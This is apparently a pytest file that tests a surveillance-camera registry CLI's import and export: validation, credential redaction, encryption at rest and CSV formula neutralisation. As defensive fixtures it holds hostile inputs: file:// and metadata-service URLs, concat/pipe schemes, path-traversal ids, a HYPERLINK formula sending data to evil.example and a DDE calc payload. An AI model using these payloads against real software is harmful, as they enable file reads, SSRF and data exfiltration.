"""Inventory import/export through the CLI and the library: good, bad and hostile rows."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from camera_registry.inventory import InventoryError, parse_records
from gateway.cli import app

INVENTORY = Path(__file__).resolve().parents[2] / "fixtures" / "inventory"

SECRET = "Zq9-very-secret-pw"
GOOD: list[dict[str, Any]] = [
    {
        "id": "cam-qb-001",
        "name": "七宝老街东口",
        "kind": "fixed",
        "source_url": f"rtsp://admin:{SECRET}@127.0.0.1:8554/h264",
        "area": "七宝镇",
        "department": "police",
        "lat": 31.155,
        "lon": 121.35,
        "tags": ["路口", "商业"],
    },
    {
        "id": "cam-xz-002",
        "name": "莘庄地铁站北广场",
        "kind": "fixed",
        "source_url": "rtsp://127.0.0.1:8554/h264_360p",
        "area": "莘庄镇",
        "department": "transport",
        "lat": 31.11,
        "lon": 121.385,
    },
]
VEHICLES = [{"id": "bus-1", "kind": "bus", "plate": "沪A12345", "line": "闵行12路", "home_district": "闵行区"}]
BUS_CAM: dict[str, Any] = {
    "id": "cam-bus-1-front",
    "name": "闵行12路 前",
    "kind": "bus",
    "source_url": "rtsp://127.0.0.1:{port}/h264",
    "area": "",
    "department": "transport",
    "vehicle_id": "bus-1",
    "vehicle_position": "front",
}
HOSTILE = [
    {"id": "h1", "name": "file", "source_url": "file:///etc/passwd"},
    {"id": "h2", "name": "concat", "source_url": "concat:rtsp://a/b|file:///etc/passwd"},
    {"id": "h3", "name": "http", "source_url": "http://169.254.169.254/latest/meta-data"},
    {"id": "h4", "name": "bad lat", "source_url": "rtsp://h/p", "lat": 123.0, "lon": 1.0},
    {"id": "h5", "name": "x" * 5000, "source_url": "rtsp://h/p"},
    {"id": "h6", "name": "pipe", "source_url": "pipe:0"},
    {"id": "h7", "name": "only lat", "source_url": "rtsp://h/p", "lat": 31.0},
    {"id": "../etc", "name": "bad id", "source_url": "rtsp://h/p"},
    {"id": "h9", "name": "unknown field", "source_url": "rtsp://h/p", "evil": 1},
    {"id": "h10", "name": "creds in bad url", "source_url": f"ftp://u:{SECRET}@h/p"},
]


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("LIANDONG_DATA_DIR", str(tmp_path / "data"))
    return tmp_path


def run(*args: str) -> tuple[int, str]:
    r = CliRunner().invoke(app, list(args))
    return r.exit_code, r.output


def write_json(path: Path, rows: Sequence[object]) -> Path:
    path.write_text(json.dumps(rows, ensure_ascii=False), encoding="utf-8")
    return path


def test_import_json_then_reimport_unchanged_then_update(env: Path) -> None:
    f = write_json(env / "inv.json", GOOD)
    code, out = run("cameras", "import", str(f), "--json")
    assert code == 0, out
    rep = json.loads(out.strip().splitlines()[-1])
    assert (rep["created"], rep["rejected"], rep["written"]) == (2, 0, True)
    code, out = run("cameras", "import", str(f), "--json")
    assert json.loads(out.strip().splitlines()[-1])["unchanged"] == 2
    changed = [dict(GOOD[0], name="七宝老街东口（新）"), GOOD[1]]
    code, out = run("cameras", "import", str(write_json(env / "inv2.json", changed)), "--json")
    rep = json.loads(out.strip().splitlines()[-1])
    assert (rep["updated"], rep["unchanged"]) == (1, 1)
    # A changed password is an update too, and is never printed.
    pw_changed = [dict(GOOD[0], source_url="rtsp://admin:other-pw@127.0.0.1:8554/h264")]
    code, out = run("cameras", "import", str(write_json(env / "inv3.json", pw_changed)), "--json")
    assert json.loads(out.strip().splitlines()[-1])["updated"] == 1
    assert "other-pw" not in out


def test_hostile_rows_rejected_alone_with_reasons(env: Path) -> None:
    f = write_json(env / "inv.json", GOOD + HOSTILE)
    code, out = run("cameras", "import", str(f), "--json")
    assert code == 1
    rep = json.loads(out.strip().splitlines()[-1])
    assert rep["created"] == 2
    assert rep["rejected"] == len(HOSTILE)
    reasons = {e["id"]: e["reason"] for e in rep["errors"]}
    assert "scheme 'file' not allowed" in reasons["h1"]
    assert "scheme 'concat' not allowed" in reasons["h2"]
    assert "scheme 'http' not allowed" in reasons["h3"]
    assert reasons["h4"].startswith("lat:")
    assert reasons["h5"].startswith("name:")
    assert "scheme 'pipe' not allowed" in reasons["h6"]
    assert "lat and lon" in reasons["h7"]
    assert reasons["h9"].startswith("evil:")
    # An id that is not a valid id is not echoed (it could be anything), only the reason is.
    assert {"row": 10, "id": None, "reason": reasons[None]} in rep["errors"]
    assert reasons[None].startswith("id:")
    assert SECRET not in out
    assert "/etc/passwd" not in out
    # Row numbers are 1-based positions in the file.
    rows = {e["id"]: e["row"] for e in rep["errors"]}
    assert rows["h1"] == 3


def test_strict_writes_nothing(env: Path) -> None:
    f = write_json(env / "inv.json", GOOD + HOSTILE[:1])
    code, out = run("cameras", "import", str(f), "--strict", "--json")
    assert code == 1
    rep = json.loads(out.strip().splitlines()[-1])
    assert rep["written"] is False
    code, out = run("cameras", "export", "--format", "json")
    assert json.loads(out) == []


def test_duplicate_ids_later_row_rejected(env: Path) -> None:
    rows = [GOOD[0], dict(GOOD[0], name="dup")]
    _code, out = run("cameras", "import", str(write_json(env / "d.json", rows)), "--json")
    rep = json.loads(out.strip().splitlines()[-1])
    assert rep["created"] == 1
    assert rep["errors"] == [{"row": 2, "id": "cam-qb-001", "reason": "id: duplicate of an earlier row in this file"}]


def test_broken_encoding_is_a_clear_error(env: Path) -> None:
    f = env / "bad.csv"
    f.write_bytes("id,name,source_url\nc1,七宝,rtsp://h/p\n".encode() + b"c2,\xff\xfe,rtsp://h/p\n")
    code, out = run("cameras", "import", str(f))
    assert code == 2
    assert "not valid UTF-8 (line 3" in out
    with pytest.raises(InventoryError, match="invalid JSON"):
        parse_records(b"[{", "json")
    with pytest.raises(InventoryError, match="list of records"):
        parse_records(b'"x"', "json")


def test_csv_with_vehicles_and_substitution(env: Path) -> None:
    buf = io.StringIO()
    w = csv.DictWriter(
        buf,
        fieldnames=[
            "id",
            "name",
            "kind",
            "source_url",
            "area",
            "department",
            "lat",
            "lon",
            "vehicle_id",
            "vehicle_position",
            "tags",
        ],
    )
    w.writeheader()
    for r in [*GOOD, BUS_CAM]:
        w.writerow({**r, "tags": ";".join(r.get("tags", []))})
    f = env / "inv.csv"
    f.write_text(buf.getvalue(), encoding="utf-8")
    code, out = run("cameras", "import", str(f), "--json")
    rep = json.loads(out.strip().splitlines()[-1])
    assert rep["errors"] == [
        {"row": 3, "id": "cam-bus-1-front", "reason": "source_url: malformed URL (bad host or port)"}
    ]
    code, out = run("cameras", "import", str(f), "-s", "port=9554", "--json")
    rep = json.loads(out.strip().splitlines()[-1])
    assert rep["errors"] == [{"row": 3, "id": "cam-bus-1-front", "reason": "vehicle_id: vehicle not found"}]
    v = write_json(env / "veh.json", VEHICLES)
    code, out = run("cameras", "import", str(f), "--vehicles", str(v), "-s", "port=9554", "--json")
    assert code == 0, out
    code, out = run("cameras", "export", "--format", "json")
    exported = {c["id"]: c for c in json.loads(out)}
    assert exported["cam-bus-1-front"]["source_url"] == "rtsp://127.0.0.1:9554/h264"
    assert exported["cam-qb-001"]["tags"] == sorted(["路口", "商业"])
    assert exported["cam-qb-001"]["name"] == "七宝老街东口"


def test_export_roundtrip_without_and_with_credentials(env: Path) -> None:
    run("cameras", "import", str(write_json(env / "inv.json", GOOD)))
    code, out = run("cameras", "export", "--format", "csv")
    assert code == 0
    assert SECRET not in out
    assert "rtsp://127.0.0.1:8554/h264" in out
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["id"] for r in rows] == ["cam-qb-001", "cam-xz-002"]
    # The export without credentials re-imports unchanged: stored credentials stay (same host and port).
    plain = env / "plain.csv"
    plain.write_text(out, encoding="utf-8")
    code, out = run("cameras", "import", str(plain), "--json")
    assert (code, last_json(out)["unchanged"]) == (0, 2), out
    secret_file = env / "full.json"
    code, _ = run("cameras", "export", "--format", "json", "--with-credentials", "-o", str(secret_file))
    assert code == 0
    full = json.loads(secret_file.read_text(encoding="utf-8"))
    assert full[0]["source_url"] == f"rtsp://admin:{SECRET}@127.0.0.1:8554/h264"
    assert oct(secret_file.stat().st_mode & 0o777) == "0o600"
    # Re-importing the full export into a fresh data dir reproduces the cameras unchanged.
    code, out = run("cameras", "import", str(secret_file), "--json")
    assert json.loads(out.strip().splitlines()[-1])["unchanged"] == 2


def test_credentials_are_encrypted_at_rest(env: Path) -> None:
    run("cameras", "import", str(write_json(env / "inv.json", GOOD)))
    db = (env / "data" / "liandong.db").read_bytes()
    assert SECRET.encode() not in db
    assert b"cam-qb-001" in db


def last_json(out: str) -> Any:
    return json.loads(out.strip().splitlines()[-1])


def test_hostile_csv_rows_rejected_alone(env: Path) -> None:
    header = "id,name,kind,source_url,area,department,lat,lon,vehicle_id,vehicle_position,tags\n"
    rows = [
        f"ok-1,七宝路口,fixed,rtsp://admin:{SECRET}@10.0.0.1/ch1,七宝镇,police,31.1,121.3,,,路口;学校",
        "h-file,x,fixed,file:///etc/passwd,,,,,,,",
        f'h-concat,x,fixed,"concat:rtsp://u:{SECRET}@a/b|file:///etc/passwd",,,,,,,',
        f"h-http,x,fixed,http://u:{SECRET}@169.254.169.254/latest,,,,,,,",
        "h-lat,x,fixed,rtsp://h/p,,,north,121.3,,,",
        "h-lon,x,fixed,rtsp://h/p,,,31.1,999,,,",
        "h-huge,x,fixed,rtsp://h/p,," + "区" * 200_000 + ",,,,,",
        "h-cols,x,fixed,rtsp://h/p,,,,,,,,extra,extra",
        "h-kind,x,boat,rtsp://h/p,,,,,,,",
        f"h-space,x,fixed,rtsp://u:{SECRET}@h/p q,,,,,,,",
        "ok-2,莘庄地铁站,fixed,rtsp://10.0.0.2:554/ch1,莘庄镇,transport,31.11,121.38,,,",
    ]
    f = env / "inv.csv"
    f.write_text(header + "\n".join(rows) + "\n", encoding="utf-8")
    code, out = run("cameras", "import", str(f), "--json")
    assert code == 1
    rep = last_json(out)
    assert (rep["created"], rep["rejected"]) == (2, 9)
    reasons = {e["row"]: (e["id"], e["reason"]) for e in rep["errors"]}
    assert reasons[2] == ("h-file", "source_url: scheme 'file' not allowed (only rtsp:// and rtsps://)")
    assert "scheme 'concat'" in reasons[3][1]
    assert "scheme 'http'" in reasons[4][1]
    assert reasons[5] == ("h-lat", "lat: not a number")
    assert reasons[6][1].startswith("lon:")
    assert reasons[7] == (None, "row: a field is longer than 131072 characters")
    assert reasons[8] == (None, "row: more values than header columns")
    assert reasons[9][1].startswith("kind:")
    assert reasons[10][1].startswith("source_url:")
    assert SECRET not in out and "passwd" not in out and "169.254" not in out
    # The table output (no --json) names row and reason too.
    code, out = run("cameras", "import", str(f))
    assert "row 2 (h-file): source_url: scheme 'file' not allowed" in out
    assert SECRET not in out


def test_json_broken_encoding_and_non_objects(env: Path) -> None:
    f = env / "bad.json"
    f.write_bytes(b'[\n{"id": "a",\n "name": "\xe4\xb8"}]')
    code, out = run("cameras", "import", str(f))
    assert code == 2
    assert "not valid UTF-8 (line 3" in out and "Traceback" not in out
    f.write_text(json.dumps([1, "x", None, [], {"id": 5, "name": "n", "source_url": "rtsp://h/p"}]), encoding="utf-8")
    code, out = run("cameras", "import", str(f), "--json")
    rep = last_json(out)
    assert rep["rejected"] == 5
    assert [e["reason"] for e in rep["errors"]][:4] == ["row: must be an object"] * 4
    assert rep["errors"][4]["reason"].startswith("id:")


def test_sample_inventory_imports_with_zero_rejections(env: Path) -> None:
    cams_json, cams_csv, vehicles = (
        INVENTORY / n for n in ("sample_cameras.json", "sample_cameras.csv", "sample_vehicles.json")
    )
    n_cams = len(json.loads(cams_json.read_text(encoding="utf-8")))
    n_vehicles = len(json.loads(vehicles.read_text(encoding="utf-8")))
    code, out = run("cameras", "import", str(cams_json), "--vehicles", str(vehicles), "--set-port", "8554", "--json")
    assert code == 0, out
    rep = last_json(out)
    assert (rep["created"], rep["rejected"]) == (n_cams, 0)
    assert rep["vehicles"]["created"] == n_vehicles
    # The CSV version of the same inventory changes nothing.
    code, out = run("cameras", "import", str(cams_csv), "-s", "port=8554", "--json")
    assert code == 0, out
    assert (last_json(out)["unchanged"], last_json(out)["rejected"]) == (n_cams, 0)
    _code, out = run("cameras", "export")
    exported = json.loads(out)
    assert len(exported) == n_cams
    assert all(c["source_url"].startswith("rtsp://127.0.0.1:8554/") for c in exported)
    assert "demo-secret" not in out
    assert any(c["area"] == "七宝镇" for c in exported)


def test_strict_with_vehicles_writes_nothing_at_all(env: Path) -> None:
    v = write_json(env / "veh.json", VEHICLES)
    bad_bus = dict(BUS_CAM, source_url="rtsp://127.0.0.1:9554/h264", vehicle_id="no-such-bus")
    f = write_json(env / "inv.json", [GOOD[0], bad_bus])
    code, out = run("cameras", "import", str(f), "--vehicles", str(v), "--strict", "--json")
    assert code == 1
    rep = last_json(out)
    assert rep["written"] is False
    assert rep["errors"] == [{"row": 2, "id": "cam-bus-1-front", "reason": "vehicle_id: vehicle not found"}]
    assert rep["vehicles"]["written"] is False
    assert json.loads(run("cameras", "export")[1]) == []
    assert json.loads(run("cameras", "export", "--vehicles")[1]) == []
    # Without --strict the good rows go in.
    code, out = run("cameras", "import", str(f), "--vehicles", str(v), "--json")
    assert (last_json(out)["created"], last_json(out)["rejected"]) == (1, 1)


def test_import_vehicles_command_and_vehicle_export_roundtrip(env: Path) -> None:
    rows = [
        *VEHICLES,
        {"id": "truck-9", "kind": "truck", "plate": "沪B99999", "cargo": "液化气", "home_district": "松江区"},
        {"id": "bad", "kind": "boat", "plate": "x"},
        {"id": "bus-1", "kind": "bus", "plate": "dup"},
    ]
    code, out = run("cameras", "import-vehicles", str(write_json(env / "v.json", rows)), "--json")
    assert code == 1
    rep = last_json(out)
    assert (rep["vehicles"]["created"], rep["vehicles"]["rejected"]) == (2, 2)
    code, out = run("cameras", "export", "--vehicles", "--format", "csv")
    f = env / "v.csv"
    f.write_text(out, encoding="utf-8")
    assert "液化气" in out
    code, out = run("cameras", "import-vehicles", str(f), "--json")
    assert code == 0, out
    assert last_json(out)["vehicles"]["unchanged"] == 2


def test_large_file_with_progress(env: Path) -> None:
    rows = [
        {
            "id": f"c-{i:05d}",
            "name": f"路口{i}",
            "source_url": f"rtsp://10.0.{i // 250}.{i % 250 + 1}/ch1",
            "area": "梅陇镇",
        }
        for i in range(2000)
    ]
    rows[1500]["source_url"] = "file:///etc/shadow"
    f = write_json(env / "big.json", rows)
    _code, out = run("cameras", "import", str(f), "--json")
    rep = last_json(out)
    assert (rep["created"], rep["rejected"]) == (1999, 1)
    assert rep["errors"] == [
        {"row": 1501, "id": "c-01500", "reason": "source_url: scheme 'file' not allowed (only rtsp:// and rtsps://)"}
    ]


def test_bad_options(env: Path) -> None:
    f = write_json(env / "inv.json", GOOD)
    code, out = run("cameras", "import", str(f), "--substitute", "noequals")
    assert code == 2 and "KEY=VALUE" in out
    code, out = run("cameras", "export", "--format", "xml")
    assert code == 2 and "json or csv" in out
    code, out = run("cameras", "import", str(env / "missing.json"))
    assert code == 2


async def test_progress_counts_every_row(tmp_path: Path) -> None:
    from camera_registry.inventory import import_inventory
    from camera_registry.store import CameraStore
    from storage.db import Database
    from storage.secretbox import SecretBox

    db = Database(f"sqlite:///{tmp_path / 'p.db'}")
    try:
        db.migrate()
        store = CameraStore(db, SecretBox.from_data_dir(tmp_path))
        rows: list[object] = [{"id": f"c{i}", "name": "n", "source_url": f"rtsp://h/{i}"} for i in range(450)]
        rows[7] = {"id": "bad", "source_url": "pipe:0"}
        rows[300] = "not an object"
        calls: list[int] = []
        rep = await import_inventory(store, rows, progress=calls.append)
        assert sum(calls) == 450 and len(calls) == 3
        assert (rep.cameras.count("created"), rep.cameras.count("rejected")) == (448, 2)
        # The in-memory list sees the import at once.
        assert (await store.search())[1] == 448
    finally:
        await db.close()


def test_csv_export_neutralises_spreadsheet_formulas_and_reimports_unchanged(env: Path) -> None:
    """OWASP CSV injection: a cell a spreadsheet would run (=, +, -, @, tab, CR first) is written with
    a leading quote; numbers stay numbers; the importer removes the quote again."""
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
    vehicles = [{"id": "bus-9", "kind": "bus", "plate": "+86 沪A", "contact": "@driver", "home_district": "-x"}]
    cams = [
        {"id": "f1", "name": formula, "source_url": "rtsp://h/p", "area": "-1+1", "lat": -31.5, "lon": -121.25},
        {
            "id": "f2",
            "name": "-2+cmd|' /C calc'!A0",
            "source_url": "rtsp://h/q",
            "tags": ["@tag", "ok"],
            "kind": "bus",
            "vehicle_id": "bus-9",
        },
    ]
    code, out = run(
        "cameras",
        "import",
        str(write_json(env / "inv.json", cams)),
        "--vehicles",
        str(write_json(env / "veh.json", vehicles)),
        "--json",
    )
    assert code == 0, out
    code, out = run("cameras", "export", "--format", "csv")
    assert code == 0, out
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(out))}
    assert rows["f1"]["name"] == "'" + formula and rows["f1"]["area"] == "'-1+1"
    assert (rows["f1"]["lat"], rows["f1"]["lon"]) == ("-31.5", "-121.25")  # numbers are not formulas
    assert rows["f2"]["name"] == "'-2+cmd|' /C calc'!A0" and rows["f2"]["tags"] == "'@tag;ok"
    for row in rows.values():
        text = [v for k, v in row.items() if k not in ("lat", "lon")]
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in text), row
    code, vout = run("cameras", "export", "--vehicles", "--format", "csv")
    veh = next(csv.DictReader(io.StringIO(vout)))
    assert (veh["plate"], veh["contact"], veh["home_district"]) == ("'+86 沪A", "'@driver", "'-x")
    # The export re-imports unchanged (the quotes are taken off again).
    (env / "back.csv").write_text(out, encoding="utf-8")
    code, out = run("cameras", "import", str(env / "back.csv"), "--json")
    assert (code, last_json(out)["unchanged"]) == (0, 2), out
    (env / "vback.csv").write_text(vout, encoding="utf-8")
    code, vout = run("cameras", "import-vehicles", str(env / "vback.csv"), "--json")
    assert last_json(vout)["vehicles"]["unchanged"] == 1, vout
